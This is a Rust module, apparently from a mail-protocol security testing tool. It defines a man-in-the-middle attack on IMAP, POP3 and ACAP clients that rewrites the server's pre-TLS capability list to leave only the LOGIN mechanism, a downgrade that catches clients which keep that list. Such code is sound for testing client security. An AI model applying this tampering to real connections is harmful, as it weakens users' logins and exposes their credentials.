//! Changes the list that a client keeps.

use super::{Attack, Deciding, Group, tamper};
use crate::base::{Protocol, Side};
use crate::harm::success;
use crate::proto::Dialect;

static DECIDING: &[Deciding] = &[Deciding {
    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
    given: &["server.mechanisms=plain+scram-sha-256"],
    right: &[],
    wrong: &["client.keep-capabilities=on"],
}];

/// The attack.
pub static ATTACK: Attack = Attack {
    id: "stale-capability-cache",
    title: "Change what is kept",
    about: "Changes the list in the clear and then lets TLS come up: a client that keeps the list chooses its login by it.",
    group: Group::Capabilities,
    known: &[],
    protocols: &[Protocol::Imap, Protocol::Pop3, Protocol::Acap],
    switches: &[],
    build: |_, dialect| {
        tamper(move |message, moves| {
            let forged = (message.from == Side::Server).then(|| forged(dialect, message.octets)).flatten();
            match forged {
                Some(octets) => moves.replace(octets),
                None => moves.pass(),
            }
        })
    },
    success: &success::FORGED_CAPABILITIES,
    deciding: DECIDING,
};

/// The list with the LOGIN mechanism as its only one.
fn forged(dialect: &Dialect, octets: &[u8]) -> Option<Vec<u8>> {
    (dialect.items)(octets)?;
    let without = (dialect.without_capabilities)(octets, &|word| word.starts_with("AUTH=") || word == "SASL");
    let item = if dialect.protocol == Protocol::Imap { "AUTH=LOGIN" } else { "SASL LOGIN" };
    (dialect.with_items)(without.as_deref().unwrap_or(octets), &[item])
}
